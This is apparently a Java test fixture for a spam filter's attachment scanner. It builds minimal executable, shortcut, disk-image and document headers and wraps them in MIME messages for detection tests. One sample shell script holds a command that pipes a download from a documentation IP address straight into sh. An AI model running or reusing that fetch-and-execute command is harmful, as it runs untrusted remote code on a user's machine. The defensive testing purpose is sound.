package org.spamfree.core.attachment;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/** Minimal files with the magic bytes of each format, and MIME messages that carry them. */
final class SampleFiles {

  private SampleFiles() {}

  /** Returns a DOS header whose e_lfanew points at an i386 PE signature (PE/COFF spec §2). */
  static byte[] windowsExecutable() {
    byte[] pe = new byte[512];
    pe[0] = 'M';
    pe[1] = 'Z';
    pe[0x3c] = (byte) 0x80;
    pe[0x80] = 'P';
    pe[0x81] = 'E';
    pe[0x84] = 0x4c;
    pe[0x85] = 0x01;
    return pe;
  }

  /** Returns the ELF header of a 64-bit x86-64 executable. */
  static byte[] elfExecutable() {
    byte[] elf = new byte[64];
    byte[] header = {0x7f, 'E', 'L', 'F', 2, 1, 1, 0};
    System.arraycopy(header, 0, elf, 0, header.length);
    elf[16] = 2;
    elf[18] = 0x3e;
    return elf;
  }

  /** Returns the 64-bit little-endian Mach-O header of an executable. */
  static byte[] machOExecutable() {
    return new byte[] {
      (byte) 0xcf, (byte) 0xfa, (byte) 0xed, (byte) 0xfe, 7, 0, 0, 1, 3, 0, 0, 0, 2, 0, 0, 0
    };
  }

  static byte[] shellScript() {
    return "#!/bin/sh\ncurl -s http://192.0.2.1/x | sh\n".getBytes(StandardCharsets.US_ASCII);
  }

  /** Returns a Windows shortcut header: size 0x4C and the shell link CLSID. */
  static byte[] windowsShortcut() {
    byte[] lnk = new byte[76];
    byte[] header = {
      0x4c, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0, (byte) 0xc0, 0, 0, 0, 0, 0, 0, 0x46
    };
    System.arraycopy(header, 0, lnk, 0, header.length);
    return lnk;
  }

  /** Returns an ISO 9660 image: the primary volume descriptor's CD001 at offset 32769. */
  static byte[] isoImage() {
    byte[] iso = new byte[0x8800];
    iso[0x8000] = 1;
    byte[] id = "CD001".getBytes(StandardCharsets.US_ASCII);
    System.arraycopy(id, 0, iso, 0x8001, id.length);
    return iso;
  }

  static byte[] pdf() {
    return "%PDF-1.4\n%\u00e2\u00e3\n1 0 obj\n<<>>\nendobj\n".getBytes(StandardCharsets.ISO_8859_1);
  }

  static byte[] png() {
    return new byte[] {(byte) 0x89, 'P', 'N', 'G', 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d};
  }

  static byte[] text() {
    return "Minutes of the meeting.\n".getBytes(StandardCharsets.US_ASCII);
  }

  static byte[] zip(String name, byte[] content) {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
      zip.putNextEntry(new ZipEntry(name));
      zip.write(content);
      zip.closeEntry();
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return bytes.toByteArray();
  }

  /** Returns a message with a text part and one base64 attachment. */
  static String message(String fileName, String declaredType, byte[] attachment) {
    return String.join(
        "\r\n",
        "From: sender@sender.example",
        "To: alice@example.test",
        "Subject: Attachment",
        "MIME-Version: 1.0",
        "Content-Type: multipart/mixed; boundary=\"b1\"",
        "",
        "--b1",
        "Content-Type: text/plain",
        "",
        "See the attachment.",
        "--b1",
        attachmentPart(fileName, declaredType, attachment),
        "--b1--",
        "");
  }

  static String attachmentPart(String fileName, String declaredType, byte[] attachment) {
    return String.join(
        "\r\n",
        "Content-Type: " + declaredType + (fileName == null ? "" : "; name=\"" + fileName + "\""),
        "Content-Transfer-Encoding: base64",
        fileName == null
            ? "Content-Disposition: attachment"
            : "Content-Disposition: attachment; filename=\"" + fileName + "\"",
        "",
        Base64.getMimeEncoder().encodeToString(attachment));
  }
}
